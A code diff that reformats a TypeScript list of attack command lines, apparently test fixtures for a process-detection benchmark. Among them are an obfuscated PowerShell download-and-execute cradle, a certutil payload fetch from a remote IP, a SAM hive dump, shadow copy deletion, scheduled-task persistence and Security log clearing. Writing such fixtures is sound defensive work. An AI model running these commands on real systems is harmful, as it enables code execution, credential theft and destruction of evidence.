@@ -32,7 +32,10 @@ if (!existsSync(roots[0] ?? "")) {
 
 /** Attack command lines beyond the bench's cases: obfuscation, registry hive dumps, discovery. */
 const ATTACKS: ProcessInput[] = [
-  { cmd: "powershell.exe -nop -c I`E`X (N`e`w-O`b`j`e`c`t Net.WebClient).DownloadString('http://x/a')", parent: "cmd.exe" },
+  {
+    cmd: "powershell.exe -nop -c I`E`X (N`e`w-O`b`j`e`c`t Net.WebClient).DownloadString('http://x/a')",
+    parent: "cmd.exe",
+  },
   { cmd: "reg save HKLM\\SAM C:\\Users\\Public\\sam.save", parent: "cmd.exe", user: "CORP\\bob", host: "ws-7" },
   { cmd: "a.exe /c whoami", parent: "explorer.exe" },
   { cmd: "certutil.exe -urlcache -split -f http://198.51.100.4/p.exe C:\\Temp\\p.exe", parent: "cmd.exe" },
@@ -40,7 +43,10 @@ const ATTACKS: ProcessInput[] = [
   { cmd: "vssadmin.exe delete shadows /all /quiet", parent: "cmd.exe" },
   { cmd: "net.exe user /domain", parent: "cmd.exe" },
   { cmd: "schtasks.exe /create /tn upd /tr C:\\Users\\Public\\u.exe /sc minute /mo 5", parent: "cmd.exe" },
-  { cmd: "mshta.exe vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell\"\", 0:close\")", parent: "winword.exe" },
+  {
+    cmd: 'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell"", 0:close")',
+    parent: "winword.exe",
+  },
   { cmd: "wevtutil.exe cl Security", parent: "cmd.exe" },
 ]
 
